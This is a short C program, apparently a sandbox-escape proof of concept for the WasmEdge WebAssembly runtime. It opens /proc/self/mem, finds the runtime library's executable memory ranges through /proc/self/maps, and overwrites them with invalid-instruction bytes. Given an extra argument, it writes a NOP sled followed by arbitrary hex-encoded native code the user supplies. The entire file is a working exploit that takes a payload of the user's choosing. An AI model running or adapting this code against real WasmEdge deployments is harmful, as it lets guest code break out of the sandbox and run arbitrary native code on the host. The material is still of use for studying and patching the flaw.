/* Overwrites the code of the engine that runs it, by way of its own memory in procfs: then what
 * runs is native code of its own choice. Here each byte becomes an instruction that no processor
 * has; with FILE, CODE in hexadecimal digits is what NOPs of one byte lead to. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *path = argc > 1 ? argv[1] : "/proc/self/mem";
    static unsigned char code[65536];
    char line[1024];
    unsigned long long start, end;
    FILE *maps = fopen("/proc/self/maps", "r");
    int memory = open(path, O_WRONLY);
    if (!maps || memory < 0) {
        printf("%s: %s\n", maps ? path : "/proc/self/maps", strerror(errno));
        return 1;
    }
    memset(code, argc > 2 ? 0x90 : 0xff, sizeof(code));
    for (size_t i = 0, length = argc > 2 ? strlen(argv[2]) / 2 : 0; i < length; i++)
        if (sscanf(argv[2] + 2 * i, "%2hhx", &code[sizeof(code) - length + i]) != 1)
            return 4;
    while (fgets(line, sizeof(line), maps)) {
        if (!strstr(line, "libwasmedge") || !strstr(line, " r-xp "))
            continue;
        if (sscanf(line, "%llx-%llx", &start, &end) != 2)
            return 2;
        for (; start < end; start += sizeof(code))
            if (pwrite(memory, code, sizeof(code), (off_t)start) < 0)
                return 3;
    }
    puts("overwritten");
    return 0;
}
